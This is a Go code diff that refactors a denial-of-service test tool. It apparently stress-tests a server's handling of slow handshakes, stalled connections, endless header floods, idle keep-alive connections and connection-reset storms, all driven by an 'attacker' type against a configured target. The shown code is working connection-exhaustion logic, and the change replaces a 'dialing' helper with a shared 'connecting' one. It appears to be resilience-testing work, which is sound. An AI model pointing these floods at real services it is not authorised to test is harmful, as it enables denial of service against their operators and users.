@@ -29,23 +29,9 @@ func (c *conn) stalled() error {
 	return err
 }
 
-// dialing connects clients again and again, and calls do with each connection.
-func (a *attacker) dialing(do func(c *conn) error) {
-	a.each(func(i int) {
-		a.again(func() error {
-			c, err := a.dial(i)
-			if err != nil {
-				return err
-			}
-			defer c.drop()
-			return do(c)
-		})
-	})
-}
-
 func slowHandshake(a *attacker) {
 	request := a.target.Request(a.room, false)
-	a.dialing(func(c *conn) error {
+	a.connecting(a.dial, func(_ int, c *conn) error {
 		for at := range request {
 			if _, err := c.Write(request[at : at+1]); err != nil {
 				return err
@@ -58,12 +44,14 @@ func slowHandshake(a *attacker) {
 	})
 }
 
-func silent(a *attacker) { a.dialing((*conn).stalled) }
+func silent(a *attacker) {
+	a.connecting(a.dial, func(_ int, c *conn) error { return c.stalled() })
+}
 
 func headerFlood(a *attacker) {
 	request, _ := bytes.CutSuffix(a.target.Request(a.room, false), []byte("\r\n"))
 	lines := bytes.Repeat([]byte("X-Attack: "+string(bytes.Repeat([]byte{'a'}, 90))+"\r\n"), 160)
-	a.dialing(func(c *conn) error {
+	a.connecting(a.dial, func(_ int, c *conn) error {
 		_, err := c.Write(request)
 		for err == nil {
 			_, err = c.Write(lines)
@@ -74,7 +62,7 @@ func headerFlood(a *attacker) {
 
 func idleHTTP(a *attacker) {
 	request := fmt.Appendf(nil, "GET / HTTP/1.1\r\nHost: %s\r\nConnection: keep-alive\r\n\r\n", a.target.Host())
-	a.dialing(func(c *conn) error {
+	a.connecting(a.dial, func(_ int, c *conn) error {
 		if _, err := c.Write(request); err != nil {
 			return err
 		}
@@ -84,27 +72,21 @@ func idleHTTP(a *attacker) {
 
 func resetStorm(a *attacker) {
 	request := a.target.Request(a.room, false)
-	a.each(func(i int) {
-		round := i
-		a.again(func() error {
-			round++
-			if round%2 == 0 { // in the middle of the handshake
-				c, err := a.dial(i)
-				if err != nil {
-					return err
-				}
-				defer c.drop()
-				if _, err = c.Write(request); err != nil {
-					return err
-				}
-				return a.pause(5 * time.Millisecond)
-			}
-			c, err := a.join(i)
-			if err != nil {
+	rounds := make([]int, a.o.Connections) // of each client; every second one cuts in the middle of the handshake
+	open := func(i int) (*conn, error) {
+		if rounds[i]++; (i+rounds[i])%2 == 0 {
+			return a.dial(i)
+		}
+		return a.join(i)
+	}
+	a.connecting(open, func(i int, c *conn) error {
+		if (i+rounds[i])%2 == 0 {
+			if _, err := c.Write(request); err != nil {
 				return err
 			}
-			c.drop()
 			return a.pause(5 * time.Millisecond)
-		})
+		}
+		c.drop()
+		return a.pause(5 * time.Millisecond)
 	})
 }
